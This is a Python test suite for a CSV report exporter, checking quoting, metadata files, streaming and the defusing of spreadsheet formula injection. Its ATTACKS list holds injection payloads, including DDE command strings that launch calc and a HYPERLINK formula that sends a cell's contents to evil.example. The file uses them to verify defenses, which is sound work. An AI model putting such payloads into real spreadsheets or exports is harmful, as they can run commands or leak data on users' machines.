"""CSV by RFC 4180 in a zip that says what the numbers mean, and runs nothing in a spreadsheet."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from omni_analytics import Chart, Column, Definition, Figure, Report, Row, Table
from omni_format_csv.writing.formulas import BEGINS, defused
from omni_format_csv.writing.lines import CHUNK

Made = Callable[..., Report]
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")  # noqa: RUF001
FORMULA = re.compile(rf'[\s"|\u200b\ufeff]*[{BEGINS}]')
TEXTS = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from([*DANGEROUS, ",", ";", '"', "'", " "]))
NUMBERS = st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.decimals(allow_nan=False, allow_infinity=False)
ATTACKS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",  # noqa: RUF001
    " =1", "   +1", '"=1', "';=1", '",=1', ";=1", ",=1", "\u200b=1", "\ufeff=1", "\u00a0=1", "|=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1)', "-2+3+cmd|' /C calc'!D2",
)  # fmt: skip


def table(rows: Sequence[Row], name: str = "rows", title: str = "C") -> Table:
    return Table(name, name.title(), [Column("a", title), Column("b", "B", "seconds"), Column("c", "Ü", "money", "EUR")], rows)


def opened(content: bytes) -> dict[str, str]:
    """The files of the zip, as text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name).decode() for name in archive.namelist()}


def lines(text: str, separator: str = ",") -> list[list[str]]:
    """As a strict reader has them."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator, strict=True))


def naive(text: str, separator: str) -> list[str]:
    """Cells as a program has them that splits lines, and knows neither quotes nor the file's separator."""
    return [cell for line in re.split("[\r\n]", text) for cell in line.split(separator)]


@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.lists(st.tuples(TEXTS, NUMBERS, st.none() | st.booleans() | st.dates())), st.sampled_from([",", ";", "tab"]))
async def test_any_cells(report: Made, render: Callable[..., Any], rows: list[Any], separator: str) -> None:
    """What is read is what was there; numbers and dates are untouched, whatever they begin with."""
    between = "\t" if separator == "tab" else separator

    plain = opened(await render(report(tables=[table(rows)]), separator=separator, defuse_formulas=False))
    safe = opened(await render(report(tables=[table(rows)]), separator=separator))

    for cells, row in zip(lines(plain["rows.csv"], between)[1:], rows, strict=True):
        text, number, other = row
        said = "" if other is None else str(other).lower() if isinstance(other, bool) else other.isoformat()
        assert [cells[0], cells[2]] == [text, said]
        assert (int(cells[1]) if type(number) is int else type(number)(cells[1])) == number
    for cells, row in zip(lines(safe["rows.csv"], between)[1:], lines(plain["rows.csv"], between)[1:], strict=True):
        assert cells[1:] == row[1:]
        assert not cells[0].startswith(DANGEROUS)
        assert cells[0].replace("'", "") == row[0].replace("'", "")


@given(TEXTS, st.sampled_from([",", ";", "\t"]))
@example("x; =1", ",")
@example('x;"=1', ",")
@example("x\n=1", ";")
@example("x,=1", ";")
def test_no_reader_finds_a_formula(text: str, separator: str) -> None:
    """Neither at the beginning, nor where another separator or the end of a line would begin a cell."""
    safe = defused(text, separator)

    for other in {",", ";", "\t"} - {separator}:
        assert not [cell for cell in naive(safe, other) if FORMULA.match(cell)]


@pytest.mark.parametrize("attack", ATTACKS)
async def test_attacks(report: Made, render: Callable[..., Any], attack: str) -> None:
    """In cells, titles, parameters, notes, figures and definitions alike; and it is said how many there were."""
    figures = [Figure("a", attack, attack)]  # a text may be a figure, too
    definitions = [Definition("a", attack, attack, attack, attack)]
    made = report([(attack, attack)], tables=[table([(attack, -1, Decimal(-2))], title=attack)], figures=figures,
                  definitions=definitions, notes=[attack])  # fmt: skip

    files = opened(await render(made))

    for name, text in files.items():
        for line in lines(text):
            assert not any(cell.startswith(DANGEROUS) for cell in line if cell not in {"-1", "-2"}), (name, line)
    [text, *numbers] = lines(files["rows.csv"])[1]
    assert numbers == ["-1", "-2"]
    assert text.startswith("'")
    assert text.replace("'", "") == attack.replace("'", "")
    assert "rows.csv: texts with an apostrophe before what a spreadsheet would run as a formula: 2" in files["about.csv"]


@pytest.mark.parametrize("text", ["+49 30", "a-b", "a, -5", "user@example.com", "1=1", "50 % - 60 %", "", "'", "ä;b"])
def test_harmless(text: str) -> None:
    """What begins no formula stays as it is; of what might, it is the apostrophe alone that is added."""
    assert defused(text, ",") == ("'+49 30" if text.startswith("+") else text)


async def test_whole_report(report: Made, render: Callable[..., Any]) -> None:
    """A file for each table, and those that say what the numbers mean."""
    made = report(
        [("Period", "this_month")],
        figures=[Figure("calls", "Calls", 12, previous=8), Figure("wait", "Wait", 1.5, "seconds", previous=0)],
        tables=[table([("ä", 1.5, Decimal("2.50"))]), table([], "empty"), table([], "figures")],
        charts=[Chart("drawn", "Drawn", "line", "rows", "a", ["b"])],
        definitions=[Definition("calls", "Calls", "All of them.", "count(request)", "RFC 9110")],
        notes=["Mind the gap."],
    )

    files = opened(await render(made))

    assert list(files) == [
        "rows.csv", "empty.csv", "figures (2).csv", "figures.csv", "definitions.csv", "about.csv",
    ]  # fmt: skip
    assert files["rows.csv"] == "\ufeffC,B (s),Ü (EUR)\r\nä,1.5,2.50\r\n"
    assert files["empty.csv"] == "\ufeffC,B (s),Ü (EUR)\r\n"
    assert lines(files["figures.csv"])[1:] == [["calls", "Calls", "12", "", "8", "0.5"], ["wait", "Wait", "1.5", "s", "0", ""]]
    assert lines(files["definitions.csv"])[1] == ["calls", "Calls", "All of them.", "count(request)", "RFC 9110"]
    assert lines(files["about.csv"]) == [
        ["About this report", "Value"],
        ["Report", "Usage"],
        ["Tenant", "Söhne & Co"],
        ["Period", "2026-03-01 - 2026-03-31"],
        ["Time zone", "Europe/Vienna"],
        ["Steps", "day"],
        ["State", "Not over yet: numbers may still grow"],
        ["Compared with", "2026-02-01 00:00 - 2026-02-15 12:30"],
        ["Generated", "2026-03-15 12:30:00 CET"],
        ["Parameter: Period", "this_month"],
        ["Note", "Mind the gap."],
        ["Note", "Charts cannot be held by CSV; their numbers are in the tables: Drawn"],
    ]


async def test_nothing_to_say(report: Made, render: Callable[..., Any]) -> None:
    """A report without tables still says what it is."""
    assert list(opened(await render(report()))) == ["about.csv"]


async def test_settings(report: Made, render: Callable[..., Any]) -> None:
    """Another separator, and no byte order mark."""
    files = opened(await render(report(tables=[table([("a;b", 1, None)])]), separator=";", byte_order_mark=False))

    assert files["rows.csv"] == 'C;B (s);Ü (EUR)\r\n"a;b";1;\r\n'


async def test_what_has_no_value(report: Made, render: Callable[..., Any]) -> None:
    """Infinite numbers are empty, and counted; half a surrogate pair becomes a question mark; times say their offset."""
    at = datetime(2026, 7, 1, tzinfo=UTC)
    files = opened(await render(report(tables=[table([("\ud800", float("nan"), Decimal("Infinity")), (at, True, at)])])))

    vienna = at.astimezone(ZoneInfo("Europe/Vienna")).isoformat()
    assert lines(files["rows.csv"])[1:] == [["?", "", ""], [vienna, "true", vienna]]
    assert "rows.csv: numbers that are infinite or undefined, and empty here: 2" in files["about.csv"]


async def test_same_report_same_bytes(report: Made, render: Callable[..., Any]) -> None:
    """Nothing of the moment is in the file."""
    made = report(tables=[table([("a", 1, None)])])

    assert await render(made) == await render(made)


async def test_streamed(report: Made, rendering: Callable[..., Any]) -> None:
    """Rows are read as they are needed; who leaves early reads no more of them."""
    made = 0

    class Rows(Sequence[Row]):
        def __len__(self) -> int:
            return 1_000_000

        def __getitem__(self, at: Any) -> Any:
            raise AssertionError(at)

        def __iter__(self) -> Iterator[Row]:
            nonlocal made
            for at in range(len(self)):
                made += 1
                yield (f"person {at * 7919 % 1_000_003}", at, None)

    found = await rendering(report(tables=[table(Rows())]))
    await anext(found.chunks)
    await found.chunks.aclose()

    assert 0 < made < 20 * CHUNK / 10
    assert (found.media_type, found.suffix) == ("application/zip", "csv.zip")
